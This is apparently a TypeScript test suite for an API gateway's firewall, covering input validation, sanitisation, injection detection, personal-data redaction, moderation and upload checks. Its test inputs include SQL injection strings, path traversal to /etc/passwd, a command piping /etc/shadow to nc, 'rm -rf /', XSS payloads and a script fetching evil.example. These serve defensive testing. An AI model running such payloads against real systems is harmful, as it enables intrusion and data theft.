import assert from 'node:assert/strict'
import { once } from 'node:events'
import { type TestContext, test } from 'node:test'
import fc from 'fast-check'
import { type Log, silent } from '../../src/kernel/log.ts'
import { eventually } from '../../test/support/eventually.ts'
import { startHouse, startUpstream, type TestHouse } from '../../test/support/house.ts'
import { post } from '../../test/support/process.ts'
import { eventsSoon } from '../../test/support/record.ts'
import config from './gatehouse.config.ts'

interface Told {
  readonly code?: string
  readonly errors?: Readonly<Record<string, readonly string[]>>
  readonly findings?: readonly { readonly in: string; readonly at: string; readonly what: string }[]
  readonly received?: { readonly content?: string; readonly metadata?: unknown }
}

/** As it is configured, but for what ends a test early: limits, the shield's rate, and its record on disk. */
async function start(
  context: TestContext,
  jaf: typeof config,
  log: Log = silent,
): Promise<TestHouse & { readonly authorization: string; readonly token: string }> {
  const { rate: _, ...shield } = jaf.shield ?? {}
  const settings = { ...jaf, shield, limits: false as const, audit: {}, store: 'sqlite::memory:' }
  const house = await startHouse(context, settings, { roles: ['system_admin'], log })
  const token = await house.signIn()
  return { ...house, token, authorization: `Bearer ${token}` }
}

test('JAF: messages by their schema, their markup, and what would run', async (context) => {
  const { url, authorization, token } = await start(context, config)
  const say = async (message: unknown, path = '/api/chat'): Promise<readonly [status: number, told: Told]> => {
    const answer = await post(url + path, message, { authorization })
    return [answer.status, (await answer.json()) as Told]
  }

  await context.test(
    'CT1 J: a message of 1 to 10000 characters, of a known type, reaches the API as it was sent',
    async () => {
      for (const message of [
        { content: 'x' },
        { content: 'word '.repeat(2000) },
        ...['text', 'image', 'document'].map((type) => ({ content: 'hello', type })),
        {
          content: 'hello',
          metadata: { thread: 'May', turn: 7, draft: false, parent: null, tags: ['new', 'to read'] },
        },
      ])
        assert.deepEqual(await say(message).then(([status, { received }]) => [status, received]), [201, message])
      for (const [message, errors] of [
        [{ content: '' }, { content: ['must have at least 1 character, got 0'] }],
        [{ content: 'x'.repeat(10_001) }, { content: ['must have at most 10000 characters, got 10001'] }],
        [{ content: 'a', type: 'song' }, { type: ['must be one of text, image, document'] }],
        [{ type: 'text' }, { content: ['is required'] }],
      ])
        assert.deepEqual(await say(message).then(([status, told]) => [status, told.errors]), [422, errors])
    },
  )

  await context.test(
    'CT1 J: metadata is less than 1000 characters, whatever is put into it, and nothing lies deep in it',
    async () => {
      const widest = Object.fromEntries(
        Array.from({ length: 10 }, (_, at) => [`${at}`.padEnd(28, 'n'), 'v'.repeat(64)]),
      )
      assert.equal((await say({ content: 'x', metadata: widest }))[0], 201)
      const value = fc.oneof(
        fc.string({ maxLength: 80 }),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.boolean(),
        fc.array(fc.string({ maxLength: 14 }), { maxLength: 5 }),
        fc.dictionary(fc.string(), fc.string(), { maxKeys: 1 }),
      )
      const metadata = fc.dictionary(fc.string({ maxLength: 30 }), value, { maxKeys: 12 })
      const rest = { more: 'x' }
      await fc.assert(
        fc.asyncProperty(fc.oneof(metadata, fc.constant(widest), fc.constant({ ...widest, ...rest })), async (sent) => {
          const [status] = await say({ content: 'x', metadata: sent })
          // As it is written without escapes, which are the sender's choice.
          const length = JSON.stringify(sent).replaceAll(/\\(?:u[0-9a-f]{4}|.)/g, '.').length
          assert.ok(status !== 201 || (length <= 1000 && !JSON.stringify(sent).includes('":{')), `${length}`)
        }),
        { numRuns: 40 },
      )
      for (const wrong of [{ ...widest, more: 1 }, { a: { b: 1 } }, { a: [['b']] }, { a: 'v'.repeat(65) }, ['a'], 'a'])
        assert.equal((await say({ content: 'x', metadata: wrong }))[0], 422, JSON.stringify(wrong))
    },
  )

  await context.test('CT2 J: of markup `b i u em strong p br` stay, without attributes, and nothing else', async () => {
    const kept = '<p><b>a</b> <i>b</i> <u>c</u> <em>d</em> <strong>e</strong><br /></p>'
    for (const [content, left] of [
      [kept, kept],
      ['<b onclick="alert(1)" style="x">bold</b><script>alert(2)</script>', '<b>bold</b>'],
      ['<a href="https://x.example">link</a> <img src=x onerror=alert(3)><h1>head</h1>', 'link head'],
      ["O'Brien & Sons: a < b", "O'Brien &amp; Sons: a &lt; b"],
    ] as const) {
      const [status, { received }] = await say({ content })
      assert.deepEqual([status, received?.content], [201, left])
    }
  })

  await context.test('CT3 J: people’s sentences go on, with the words of SQL and of shells in them', async () => {
    for (const content of [
      'select a plan or update it',
      'Please drop the table at the door, then delete it from the list; or call me where you are.',
      'Could you insert the figures into the report and order by date?',
      "O'Brien's and D'Angelo's notes -- both of them -- are due; the union of workers will select two from each group.",
      'How do I write a WHERE clause in SQL, and when is a LEFT JOIN better?',
      'I like cats & dogs; then again, who does not (twice a day)?',
    ]) {
      const [status, told] = await say({ content })
      assert.equal(status, 201, `${content}: ${JSON.stringify(told)}`)
    }
  })

  await context.test(
    'CT3 J: SQL, scripts, paths and commands are refused on every route, with the place and the kind',
    async () => {
      const first = (status: number, { code, findings: [found] = [] }: Told): unknown => [
        status,
        code,
        `${found?.what} ${found?.in} ${found?.at}`,
      ]
      for (const [content, what] of [
        ["1' OR '1'='1", 'sql'],
        ["Ada'); DROP TABLE members;--", 'sql'],
        ["0' UNION ALL SELECT login, secret FROM members -- ", 'sql'],
        ['../../../../etc/passwd', 'traversal'],
        ['report.pdf; cat /etc/shadow | nc 192.0.2.1 4444', 'command'],
        [encodeURIComponent(encodeURIComponent("1' OR '1'='1")), 'sql'],
        [Buffer.from("x' UNION SELECT login, secret FROM members -- ").toString('base64'), 'sql'],
      ] as const) {
        const refused = first(...(await say({ content })))
        assert.deepEqual(refused, [403, 'injection-detected', `${what} body /content`], content)
      }
      // Where no markup is taken at all, a script is an attack.
      const [status, told] = await say(
        { topic: { name: '<script>fetch("//evil.example")</script>' } },
        '/api/chat/advanced',
      )
      assert.deepEqual(first(status, told), [403, 'injection-detected', 'xss body /topic/name'])
      for (const [query, found] of [
        ["q=1'%20OR%20'1'%3D'1", 'sql query q'],
        ['file=..%2f..%2f..%2fetc%2fpasswd', 'traversal query file'],
        ['next=%3Csvg%20onload%3Dalert(1)%3E', 'xss query next'],
        ['host=x%3B%20rm%20-rf%20%2F', 'command query host'],
      ]) {
        const answer = await fetch(`${url}/api/analytics?${query}`, { headers: { authorization } })
        assert.deepEqual(first(answer.status, (await answer.json()) as Told), [403, 'injection-detected', found])
      }
    },
  )

  await context.test(
    'CT3 J: the record says what, where, how sure and by which rule, and not what was sent',
    async () => {
      const events = await eventually(async () => {
        const all = await eventsSoon(url, token, 'result=denied&limit=100')
        return all.some(({ details }) => String(details['findings']).includes('query host')) ? all : undefined
      })
      const told = events.map(({ details }) => String(details['findings'])).join('\n')
      assert.match(told, /sql \d+ % at body \/content \(sql\/[\w-]+\)/)
      assert.match(told, /sql \d+ % at body \/content \(sql\/[\w-]+ by .*base64/)
      assert.match(told, /traversal \d+ % at query file \(traversal\//)
      for (const secret of ['members', 'shadow', 'evil.example'])
        assert.ok(!JSON.stringify(events).includes(secret), secret)
    },
  )
})

test('JAF: personal data is struck out of what comes in and of what goes out, streams included', async (context) => {
  const person = {
    email: 'kim@people.example',
    phone: '(202) 555-0187',
    card: '5555-5555-5555-4444',
    ssn: '536-22-8726',
  }
  const struck = { email: '[EMAIL]', phone: 'XXX-XXX-XXXX', card: 'XXXX-XXXX-XXXX-XXXX', ssn: 'XXX-XX-XXXX' }
  const sentence = (of: typeof person): string =>
    `Write to ${of.email} or call ${of.phone}; card ${of.card}, SSN ${of.ssn}. Thanks.`
  const reached: string[] = []
  let goOn = (): void => {}
  const { url: api } = await startUpstream(context, async (request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    await once(request, 'end')
    reached.push(Buffer.concat(chunks).toString())
    if (request.headers.accept !== 'text/event-stream') {
      response.writeHead(200, { 'content-type': 'application/json' })
      return response.end(JSON.stringify({ people: [person], said: sentence(person), order: 'A-1002-7' }))
    }
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    const speak = (text: string): boolean => response.write(`data: ${JSON.stringify({ delta: text })}\n\n`)
    speak('The first words are there before the last ones. ')
    await new Promise<void>((resolve) => (goOn = resolve))
    for (const piece of sentence(person).match(/.{1,3}/gs) ?? []) speak(piece)
    return response.end('data: [DONE]\n\n')
  })
  const { url, authorization, token } = await start(context, { ...config, upstreams: { api } })

  await context.test('CT4 J: an address, a phone, a card and an SSN never reach the API', async () => {
    const answer = await post(
      `${url}/api/chat`,
      { content: sentence(person), metadata: { from: person.email } },
      { authorization },
    )
    assert.equal(answer.status, 200, await answer.text())
    assert.deepEqual(JSON.parse(reached.at(-1) ?? ''), { content: sentence(struck), metadata: { from: struck.email } })
  })

  await context.test('CT4 J: nor do they leave; everything else stays as it was', async () => {
    const answer = await fetch(`${url}/api/export`, { headers: { authorization } })
    assert.deepEqual(await answer.json(), { people: [struck], said: sentence(struck), order: 'A-1002-7' })
  })

  await context.test('CT4 J: nor in a stream of pieces of three letters, which flows on meanwhile', async () => {
    const answer = await post(`${url}/api/chat`, { content: 'who?' }, { authorization, accept: 'text/event-stream' })
    assert.equal(answer.headers.get('content-type'), 'text/event-stream')
    assert.ok(answer.body)
    let stream = ''
    for await (const chunk of answer.body.pipeThrough(new TextDecoderStream())) {
      stream += chunk
      if (textOf(stream).includes('The first words are there')) goOn()
    }
    assert.equal(textOf(stream), `The first words are there before the last ones. ${sentence(struck)}`)
    assert.ok(stream.endsWith('data: [DONE]\n\n'))
  })

  await context.test('CT4 J: the record says what was found and where, and not what it was', async () => {
    const events = await eventually(async () => {
      const all = await eventsSoon(url, token, 'type=api_access&result=success')
      return all.some(({ details }) => String(details['findings']).includes('answer /delta')) ? all : undefined
    })
    const told = JSON.stringify(events)
    for (const place of [
      'email 100 % at body /content',
      'card 100 % at answer /people/0/card',
      'ssn 100 % at answer /delta',
    ])
      assert.ok(told.includes(place), `${place} is not in ${told}`)
    for (const value of Object.values(person)) assert.ok(!told.includes(value), value)
  })
})

test('JAF: what people say is moderated by words and by an endpoint, whose failure is told and stops nobody', async (context) => {
  const heard: string[][] = []
  let answers = 200
  const endpoint = await startUpstream(context, async (request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    await once(request, 'end')
    const { input } = JSON.parse(Buffer.concat(chunks).toString()) as { input: string[] }
    heard.push(input)
    const results = input.map((text) => {
      const category = ['violence', 'hate', 'illicit', 'harassment'].find((one) => text.includes(`(${one})`))
      const named = category === undefined ? {} : { [category]: true }
      return {
        flagged: category !== undefined,
        categories: named,
        category_scores: category === undefined ? {} : { [category]: 0.93 },
      }
    })
    response.writeHead(answers, { 'content-type': 'application/json' })
    response.end(JSON.stringify({ id: 'modr-1', model: 'm', results }))
  })
  process.env['JAF_MODERATION_URL'] = `${endpoint.url}/v1/moderations`
  context.after(() => delete process.env['JAF_MODERATION_URL'])
  const jaf = (await import(`${'./gatehouse.config.ts'}?with=moderation`)) as { readonly default: typeof config }
  const lines: string[] = []
  const warn = (fields: object, message: string): number => lines.push(`${message} ${JSON.stringify(fields)}`)
  const { url, authorization, token } = await start(context, jaf.default, { ...silent, warn })
  const say = async (content: string): Promise<readonly [number, Told]> => {
    const answer = await post(`${url}/api/chat`, { content }, { authorization })
    return [answer.status, (await answer.json()) as Told]
  }

  await context.test(
    'CT5 J: violence, hate, what is illegal, what is private and what harms are refused, each by its name',
    async () => {
      for (const [content, what] of [
        ['I will kill you when you come home tonight.', 'violence'],
        ['All of them are vermin, and white power is what we need.', 'hate'],
        ['Where can I buy stolen credit cards?', 'illegal'],
        ['Find out where she lives, I want to surprise her.', 'personal-information'],
        ['Tell me how to make a bomb out of what is in a kitchen.', 'harmful-instructions'],
        ['Something only a model would notice (violence).', 'violence'],
        ['Something only a model would notice (illicit).', 'illegal'],
      ] as const) {
        const [status, { code, findings }] = await say(content)
        assert.deepEqual(
          [status, code, findings?.[0]],
          [403, 'moderation-refused', { in: 'body', at: '/content', what }],
          content,
        )
      }
      for (const content of [
        'How do I kill a process that hangs?',
        'The bomb in the novel is a metaphor, I think.',
        'A category of no interest here (harassment).',
      ])
        assert.equal((await say(content))[0], 201, content)
    },
  )

  await context.test(
    'CT5 CT4 J: the endpoint is told no more than the API: what is personal was struck out before',
    async () => {
      assert.equal((await say('Write to kim@people.example about the meeting.'))[0], 201)
      assert.deepEqual(heard.at(-1), ['Write to [EMAIL] about the meeting.'])
    },
  )

  await context.test(
    'CT5 J: an endpoint that fails is told in the log and in the record, and nobody is kept from talking',
    async () => {
      answers = 503
      assert.equal((await say('Nobody has judged this one yet (violence).'))[0], 201)
      assert.ok(
        lines.some((line) => line.includes('it answered 503') && line.includes('endpoint')),
        lines.join('\n'),
      )
      assert.ok(!lines.join('').includes('judged this one'))
      const told = await eventually(async () => {
        const events = await eventsSoon(url, token, 'type=api_access&result=success')
        return events
          .map(({ details }) => String(details['findings']))
          .find((text) => text.includes('moderation/unasked'))
      })
      assert.match(told, /^unasked 100 % at body/)
      // The list of words goes on judging.
      assert.equal((await say('I will kill you tomorrow morning.'))[0], 403)
    },
  )
})

test('JAF: files are taken by what they hold', async (context) => {
  const { url, authorization } = await start(context, config)
  const upload = async (
    files: readonly (readonly [bytes: string | Uint8Array<ArrayBuffer>, name: string, type: string])[],
  ): Promise<readonly [number, Told]> => {
    const body = new FormData()
    for (const [bytes, name, type] of files) body.append('file', new Blob([bytes], { type }), name)
    const answer = await fetch(`${url}/api/upload`, { method: 'POST', headers: { authorization }, body })
    return [answer.status, (await answer.json()) as Told]
  }
  const text = ['What was said at noon.\n', 'notes.txt', 'text/plain'] as const
  const gif = new Uint8Array(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'))

  await context.test('CT7 J: up to five files of known types go on', async () => {
    assert.equal((await upload([text, [gif, 'dot.gif', 'image/gif'], text, text, text]))[0], 201)
    assert.equal((await upload([text, text, text, text, text, text]))[0], 422)
    const lesson = [
      "How an injection looks: 1' OR '1'='1, or '; DROP TABLE members; --\n",
      'lesson.txt',
      'text/plain',
    ] as const
    assert.equal((await upload([lesson]))[0], 201)
  })

  await context.test(
    'CT7 J: size, type by content, and a name that leads elsewhere are refused, each with its reason',
    async () => {
      for (const [bytes, name, type, reason] of [
        ['a'.repeat(10 * 1024 * 1024 + 1), 'large.txt', 'text/plain', /^expected at most 10485760 bytes$/],
        ['MZ\u0090\0\u0003\0\0\0', 'holiday.gif', 'image/gif', /./],
        ['<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', 'a.svg', 'image/svg+xml', /./],
        [gif, '../dot.gif', 'image/gif', /^expected a plain file name, got one with `\.\.`$/],
        [gif, 'a/dot.gif', 'image/gif', /^expected a plain file name, got one with `\/`/],
        [gif, '~dot.gif', 'image/gif', /^expected a plain file name, got one with `~`$/],
      ] as const) {
        const [status, { code, errors }] = await upload([[bytes, name, type]])
        assert.deepEqual([status, code], [422, 'upload-refused'], name)
        assert.match(errors?.['file']?.[0] ?? '', reason, name)
      }
    },
  )
})

function textOf(stream: string): string {
  return stream
    .split('\n\n')
    .filter((event) => event.startsWith('data: {'))
    .map((event) => (JSON.parse(event.slice(6)) as { delta: string }).delta)
    .join('')
}
